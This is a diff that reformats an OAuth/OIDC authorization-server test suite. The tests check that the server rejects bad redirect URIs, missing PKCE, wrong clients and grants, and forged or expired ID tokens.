         const { verifier, returned } = await signIn({ params: { redirect_uri: redirect } });
         assert.equal(returned.origin, redirect);
-        assert.equal((await redeem(returned.searchParams.get("code")!, verifier, `${redirect}/`)).body.error, "invalid_grant", "not even a normalized spelling");
+        assert.equal(
+          (await redeem(returned.searchParams.get("code")!, verifier, `${redirect}/`)).body.error,
+          "invalid_grant",
+          "not even a normalized spelling",
+        );
         const { verifier: v2, returned: r2 } = await signIn({ params: { redirect_uri: redirect } });
         const res = await redeem(r2.searchParams.get("code")!, v2, redirect);
         assert.equal(res.status, 200, JSON.stringify(res.body));
@@ -924,12 +1161,37 @@ for (const backend of backends()) {
       it("the token endpoint refuses other clients, grants and incomplete requests", async () => {
         const { verifier, returned } = await signIn();
         const code = returned.searchParams.get("code")!;
-        const other = await form("/oauth/token", { client_id: "other", grant_type: "authorization_code", code, code_verifier: verifier, redirect_uri: NOWHERE });
+        const other = await form("/oauth/token", {
+          client_id: "other",
+          grant_type: "authorization_code",
+          code,
+          code_verifier: verifier,
+          redirect_uri: NOWHERE,
+        });
         assert.equal(other.status, 401);
         assert.equal(other.body.error, "invalid_client");
-        assert.equal((await form("/oauth/token", { client_id: CLIENT_ID, grant_type: "password", username: "a", password: "b" })).body.error, "unsupported_grant_type");
-        assert.equal((await form("/oauth/token", { client_id: CLIENT_ID, grant_type: "authorization_code", code, redirect_uri: NOWHERE })).body.error, "invalid_request", "no code_verifier");
-        assert.equal((await redeem(code, verifier)).status, 200, "refusals before the code is looked up leave it usable");
+        assert.equal(
+          (await form("/oauth/token", { client_id: CLIENT_ID, grant_type: "password", username: "a", password: "b" }))
+            .body.error,
+          "unsupported_grant_type",
+        );
+        assert.equal(
+          (
+            await form("/oauth/token", {
+              client_id: CLIENT_ID,
+              grant_type: "authorization_code",
+              code,
+              redirect_uri: NOWHERE,
+            })
+          ).body.error,
+          "invalid_request",
+          "no code_verifier",
+        );
+        assert.equal(
+          (await redeem(code, verifier)).status,
+          200,
+          "refusals before the code is looked up leave it usable",
+        );
       });
 
       it("a redirect that is not an http loopback IP with a port, or an unknown client: a 400 page, no redirect", async () => {
@@ -947,26 +1209,60 @@ for (const backend of backends()) {
           "",
         ];
         for (const redirect of [...bad, undefined]) {
-          const res = await new Browser().get(authorizeUrl({ client_id: CLIENT_ID, response_type: "code", redirect_uri: redirect, state: "s", code_challenge: s256(random() + random()), code_challenge_method: "S256" }));
+          const res = await new Browser().get(
+            authorizeUrl({
+              client_id: CLIENT_ID,
+              response_type: "code",
+              redirect_uri: redirect,
+              state: "s",
+              code_challenge: s256(random() + random()),
+              code_challenge_method: "S256",
+            }),
+          );
           assert.equal(res.status, 400, String(redirect));
           assert.equal(res.location, undefined, String(redirect));
           assert.match(res.contentType, /text\/html/);
           assert.match(res.body, /loopback/);
         }
         for (const client of ["other", undefined]) {
-          const res = await new Browser().get(authorizeUrl({ client_id: client, response_type: "code", redirect_uri: NOWHERE, state: "s", code_challenge: s256(random() + random()), code_challenge_method: "S256" }));
+          const res = await new Browser().get(
+            authorizeUrl({
+              client_id: client,
+              response_type: "code",
+              redirect_uri: NOWHERE,
+              state: "s",
+              code_challenge: s256(random() + random()),
+              code_challenge_method: "S256",
+            }),
+          );
           assert.equal(res.status, 400);
           assert.equal(res.location, undefined);
           assert.match(res.body, /Unknown client/);
         }
         // the IPv6 loopback is a loopback too
-        const v6 = await new Browser().get(authorizeUrl({ client_id: CLIENT_ID, response_type: "code", redirect_uri: "http://[::1]:8080/callback", state: "s", code_challenge: s256(random() + random()), code_challenge_method: "S256" }));
+        const v6 = await new Browser().get(
+          authorizeUrl({
+            client_id: CLIENT_ID,
+            response_type: "code",
+            redirect_uri: "http://[::1]:8080/callback",
+            state: "s",
+            code_challenge: s256(random() + random()),
+            code_challenge_method: "S256",
+          }),
+        );
         assert.equal(v6.status, 302);
         assert.equal(new URL(v6.location!).origin, upstream.issuer);
       });
 
       it("no PKCE, plain PKCE, no state, another response_type: an error redirect to the client, nothing started", async () => {
-        const base = { client_id: CLIENT_ID, response_type: "code", redirect_uri: NOWHERE, state: "st", code_challenge: s256(random() + random()), code_challenge_method: "S256" };
+        const base = {
+          client_id: CLIENT_ID,
+          response_type: "code",
+          redirect_uri: NOWHERE,
+          state: "st",
+          code_challenge: s256(random() + random()),
+          code_challenge_method: "S256",
+        };
         const cases: Array<[Record<string, string | undefined>, string]> = [
           [{ code_challenge: undefined, code_challenge_method: undefined }, "invalid_request"],
           [{ code_challenge_method: undefined }, "invalid_request"],
@@ -976,7 +1272,15 @@ for (const backend of backends()) {
           [{ state: "" }, "invalid_request"],
           [{ response_type: "token" }, "unsupported_response_type"],
         ];
-        const sessions = async () => Number((await server.db.selectFrom("login_sessions").select((eb) => eb.fn.countAll().as("n")).executeTakeFirstOrThrow()).n);
+        const sessions = async () =>
+          Number(
+            (
+              await server.db
+                .selectFrom("login_sessions")
+                .select((eb) => eb.fn.countAll().as("n"))
+                .executeTakeFirstOrThrow()
+            ).n,
+          );
         const before = await sessions();
         for (const [over, error] of cases) {
           const res = await new Browser().get(authorizeUrl({ ...base, ...over }));
@@ -1021,7 +1325,10 @@ for (const backend of backends()) {
           assert.equal(token.get("client_secret"), "rogue-secret", "client_secret_post");
           assert.equal(token.get("redirect_uri"), callbackUrl);
           assert.equal((await identity(rogueUid("mallory"))).status, 200);
-          assert.deepEqual((await bindingsOf(rogueUid("mallory"))).map((b) => b.group.uid), [org]);
+          assert.deepEqual(
+            (await bindingsOf(rogueUid("mallory"))).map((b) => b.group.uid),
+            [org],
+          );
         });
 
         it("an ID token with another nonce: access_denied to the client, no identity", async () => {
@@ -1041,7 +1348,13 @@ for (const backend of backends()) {
             ["no nonce", { subject: "f1", idToken: { nonce: undefined } }],
             ["the default upstream's alice", { subject: "alice", idToken: { iss: upstream.issuer } }],
             ["another audience", { subject: "f3", idToken: { aud: "someone-else" } }],
-            ["expired", { subject: "f4", idToken: { iat: Math.floor(Date.now() / 1000) - 7200, exp: Math.floor(Date.now() / 1000) - 3600 } }],
+            [
+              "expired",
+              {
+                subject: "f4",
+                idToken: { iat: Math.floor(Date.now() / 1000) - 7200, exp: Math.floor(Date.now() / 1000) - 3600 },
+              },
+            ],
             ["unsigned (alg none)", { subject: "f5", unsigned: true }],
             ["ES256 where RS256 is expected", { subject: "f6", key: await makeKey("ES256") }],
           ];
@@ -1081,19 +1394,37 @@ for (const backend of backends()) {
       const bare = await startTestServer(backend);
       try {
         const url = new URL("/oauth/authorize", bare.url);
-        for (const [k, v] of Object.entries({ client_id: CLIENT_ID, response_type: "code", redirect_uri: NOWHERE, state: "s", code_challenge: s256(random() + random()), code_challenge_method: "S256" })) url.searchParams.set(k, v);
+        for (const [k, v] of Object.entries({
+          client_id: CLIENT_ID,
+          response_type: "code",
+          redirect_uri: NOWHERE,
+          state: "s",
+          code_challenge: s256(random() + random()),
+          code_challenge_method: "S256",
+        }))
+          url.searchParams.set(k, v);
         const res = await new Browser().get(url.href);
         assert.equal(res.status, 302);
         const back = new URL(res.location!);
         assert.equal(back.searchParams.get("error"), "server_error");
         assert.match(back.searchParams.get("error_description")!, /no sign-in provider is configured/);
-        const device = await fetch(new URL("/oauth/device_authorization", bare.url), { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: `client_id=${CLIENT_ID}` });
+        const device = await fetch(new URL("/oauth/device_authorization", bare.url), {
+          method: "POST",
+          headers: { "content-type": "application/x-www-form-urlencoded" },
+          body: `client_id=${CLIENT_ID}`,
+        });
         assert.equal(device.status, 400);
         assert.equal(((await device.json()) as Json).error, "server_error");
         // an organization's IdP is accepted (the sign-in starts at its upstream)
         const bareOp = restClient(bare.url, bare.operatorToken);
         const org = (await bareOp.post("/iam/v2beta1/groups", { name: "bare org" })).body.uid;
-        const idp = (await bareOp.post(`/iam/v2beta1/identityProviders/${org}`, { name: "sso", defaultRole: VIEWER, oidc: { issuer: upstream.issuer, clientId: upstream.confidentialClient.clientId } })).body.uid;
+        const idp = (
+          await bareOp.post(`/iam/v2beta1/identityProviders/${org}`, {
+            name: "sso",
+            defaultRole: VIEWER,
+            oidc: { issuer: upstream.issuer, clientId: upstream.confidentialClient.clientId },
+          })
+        ).body.uid;
         url.searchParams.set("identity_provider", idp);
         const viaIdp = await new Browser().get(url.href);
         assert.equal(viaIdp.status, 302);
